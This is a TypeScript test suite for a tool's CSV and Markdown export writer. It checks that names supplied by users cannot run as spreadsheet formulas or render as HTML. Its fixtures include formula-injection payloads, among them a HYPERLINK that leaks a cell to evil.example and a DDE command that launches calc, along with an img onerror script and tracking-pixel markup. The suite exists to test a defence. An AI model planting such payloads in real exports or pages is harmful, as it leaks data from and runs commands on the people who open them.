import { csvCell, markdownText } from '@mnemo/export-writer';
import { parse } from 'csv-parse/sync';
import { type Harness, startHarness } from '../test-support/harness';

/**
 * Names come from anyone who may write, and exports are opened in spreadsheets and rendered in pull
 * requests (issue 18, finding 9): no exported cell runs as a formula, no Markdown renders HTML, an
 * image or a link. One writer (@mnemo/export-writer) does it for these exports and the explorer's
 * cost CSV alike.
 */
let harness: Harness;
let base: string;
const TARGET = 'dataset:injection/raw@1';
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+cmd|x',
  '-2+3',
];
const MARKUP =
  '<img src=x onerror=alert(1)> ![pixel](http://evil.example/p.png) [click](http://evil.example) `code` | cell';

beforeAll(async () => {
  harness = await startHarness();
  base = harness.url.replace(/\/graphql$/, '');
  await harness.ok(`mutation { createProject(input: { slug: "injection", name: "Injection" }) { id } }`);
  await harness.ok(
    `mutation { createExperiment(input: { projectId: "project:injection", slug: "e", name: "E" }) { id } }`,
  );
  const dataset = (slug: string, name: string) =>
    harness.ok(`mutation($i: RegisterDatasetInput!) { registerDataset(input: $i) { id } }`, {
      i: { projectId: 'project:injection', slug, name },
    });
  await dataset('raw', 'Raw');
  await harness.ok(
    `mutation { registerDatasetVersion(input: { datasetId: "dataset:injection/raw", version: "1", digest: "sha256:${'1'.repeat(64)}" }) { id } }`,
  );
  for (const [i, name] of [...FORMULAS, MARKUP].entries()) {
    await harness.ok(`mutation($i: StartRunInput!) { startRun(input: $i) { id } }`, {
      i: { id: `run:injection-${i}`, experimentId: 'experiment:injection/e', name },
    });
    await harness.ok(`mutation($r: ID!) { recordRunInputs(runId: $r, inputs: [{ versionId: "${TARGET}" }]) { id } }`, {
      r: `run:injection-${i}`,
    });
  }
  await dataset('derived', MARKUP);
  await harness.ok(
    `mutation { registerDatasetVersion(input: { datasetId: "dataset:injection/derived", version: "1", digest: "sha256:${'2'.repeat(64)}", derivedFromIds: ["${TARGET}"] }) { id } }`,
  );
});
afterAll(() => harness.close());

const download = async (format: string) =>
  (await fetch(`${base}/api/impact/${encodeURIComponent(TARGET)}?format=${format}`)).text();

describe('impact exports of hostile names', () => {
  it('CSV keeps every name as text a spreadsheet will not run', async () => {
    const rows: Record<string, string>[] = parse(await download('csv'), { columns: true });
    const names = rows.map((row) => row.name);
    for (const formula of FORMULAS) expect(names).toContain(`'${formula}`);
    for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
  });

  it('Markdown shows names as text: no HTML, images or links', async () => {
    const md = await download('md');
    expect(md).not.toContain('<img');
    expect(md).not.toMatch(/!\[|\]\(/);
    expect(md).toContain('&lt;img src\\=x onerror\\=alert\\(1\\)\\>');
    // Every table row keeps its columns: a `|` in a name is escaped.
    const everything = md.slice(md.indexOf('## Everything affected'));
    const rows = everything.split('\n').filter((line) => line.startsWith('| ') && !line.startsWith('| depth'));
    for (const row of rows) expect(row.split(/(?<!\\)\|/).length).toBe(6);
  });
});

describe('the export writer', () => {
  it('neutralises what spreadsheets run, quotes what CSV needs, and leaves numbers alone', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell(' @A1')).toBe("' @A1");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('-3.50')).toBe('-3.50');
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(markdownText('*bold* _it_ # h')).toBe('\\*bold\\* \\_it\\_ \\# h');
  });
});
